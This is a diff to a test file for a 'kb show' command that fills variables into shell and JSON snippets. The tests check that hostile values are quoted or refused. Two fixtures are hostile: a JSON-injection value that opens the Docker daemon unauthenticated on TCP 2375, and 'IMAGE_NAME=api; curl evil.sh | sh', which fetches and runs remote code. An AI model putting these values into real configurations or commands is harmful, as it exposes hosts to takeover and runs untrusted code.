@@ -68,6 +68,21 @@ describe('kb show', () => {
     expect(stdout).toContain('Put in quotes for the shell: CONTAINER');
   });
 
+  it('leaves a value out of a block that takes it as typed when it could be code there, and says why', async () => {
+    // A linked data-root that would open the Docker daemon on TCP without authentication.
+    const hostile = '/mnt/x", "hosts": ["tcp://0.0.0.0:2375"], "y": "';
+    const { code, stdout } = await show('DOCKER_NO_SPACE_001', '--var', `DATA_ROOT=${hostile}`);
+    expect(code).toBe(0);
+    expect(stdout).not.toContain('"data-root": "/mnt/x"');
+    expect(stdout).toContain(`rsync -aP /var/lib/docker/ '${hostile}'/`); // the bash block quotes it
+    expect(stdout).toContain('"data-root": "__DATA_ROOT__"');
+    expect(stdout).toContain(
+      '(DATA_ROOT is not filled in here: it holds "\\"", which a json block could read as code)',
+    );
+    const plain = await show('DOCKER_NO_SPACE_001', '--var', 'DATA_ROOT=/mnt/docker-data');
+    expect(plain.stdout).toContain('"data-root": "/mnt/docker-data"');
+  });
+
   it('refuses a value its variable rejects, printing nothing, and notes a name the entry does not use', async () => {
     const bad = await show('CROSS_DOCKER_001', '--var', 'IMAGE_NAME=api; curl evil.sh | sh');
     expect(bad.code).toBe(2);
